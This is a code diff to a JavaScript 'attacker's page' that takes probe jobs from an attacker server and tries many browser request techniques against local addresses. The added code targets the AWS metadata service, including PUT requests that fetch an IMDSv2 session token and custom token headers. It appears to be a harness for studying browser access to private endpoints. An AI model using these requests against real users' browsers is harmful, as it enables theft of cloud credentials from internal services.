@@ -1,6 +1,6 @@
 // The attacker's page. It takes one job after another from its home, the
 // attacker's server, runs it, and posts what it saw there. A job is an attack
-// and its probes: addresses, each with the token to show, if any. Whatever a
+// and its probes: addresses, each with the token to show, if any, and in which header. Whatever a
 // page can observe of a probe must be in what the attack returns, and nothing
 // that differs by nature (times, the address itself) may be.
 "use strict";
@@ -34,15 +34,16 @@ async function ask(url, options) {
 	}
 }
 
-function xhr(p, withCredentials) {
+function xhr(p, withCredentials, method = "GET") {
 	const x = new XMLHttpRequest();
 	const seen = [];
 	return new Promise((done) => {
 		for (const name of ["load", "error", "abort", "timeout", "progress"]) x.addEventListener(name, () => seen.push(name));
 		x.addEventListener("loadend", () => done({ seen, status: x.status, type: x.getResponseHeader("Content-Type"), read: x.responseText }));
-		x.open("GET", p.url);
+		x.open(method, p.url);
 		x.withCredentials = withCredentials;
-		if (p.token) x.setRequestHeader("Authorization", p.token);
+		if (p.token) x.setRequestHeader(p.header, p.token);
+		if (method === "PUT") x.setRequestHeader("X-aws-ec2-metadata-token-ttl-seconds", "21600");
 		x.send();
 	});
 }
@@ -206,7 +207,7 @@ async function speculation(p) {
 	return {};
 }
 
-const withToken = (p) => (p.token ? { Authorization: p.token } : {});
+const withToken = (p) => (p.token ? { [p.header]: p.token } : {});
 const through = (p) => `${home}/redirect?to=${encodeURIComponent(p.url)}`;
 
 // The attacks. Those in untimed leave no entry in the resource timing.
@@ -220,8 +221,11 @@ const attacks = {
 	"fetch redirect manual": (p) => ask(p.url, { redirect: "manual" }),
 	"fetch HEAD": (p) => ask(p.url, { method: "HEAD" }),
 	"fetch PUT": (p) => ask(p.url, { method: "PUT" }),
+	"fetch PUT session": (p) => ask(p.url, { method: "PUT", headers: { "X-aws-ec2-metadata-token-ttl-seconds": "21600" } }),
+	"fetch PUT session no-cors": (p) => ask(p.url, { method: "PUT", mode: "no-cors", headers: { "X-aws-ec2-metadata-token-ttl-seconds": "21600" } }),
 	"fetch POST": (p) => ask(p.url, { method: "POST", mode: "no-cors", body: "x" }),
-	"fetch address space": (p) => ask(p.url, { targetAddressSpace: "loopback" }),
+	"fetch no-cors language": (p) => ask(p.url, { mode: "no-cors", headers: { "Accept-Language": "", "Accept": "*/*", "Content-Language": "" } }),
+	"fetch address space": (p) => ask(p.url, { targetAddressSpace: /\/169\.254\./.test(p.url) ? "local" : "loopback" }),
 	"fetch custom header": (p) => ask(p.url, { headers: { "X-Aws-Ec2-Metadata-Token": "x" } }),
 	"fetch token": (p) => ask(p.url, { headers: withToken(p) }),
 	"fetch token credentials": (p) => ask(p.url, { headers: withToken(p), credentials: "include" }),
@@ -230,6 +234,7 @@ const attacks = {
 	"fetch no-cors after redirect": (p) => ask(through(p), { mode: "no-cors" }),
 	"XMLHttpRequest": (p) => xhr(p, false),
 	"XMLHttpRequest credentials": (p) => xhr(p, true),
+	"XMLHttpRequest PUT session": (p) => xhr(p, false, "PUT"),
 	"XMLHttpRequest token": (p) => xhr(p, false),
 	"EventSource": (p) => eventSource(p),
 	"EventSource credentials": (p) => eventSource(p, { withCredentials: true }),
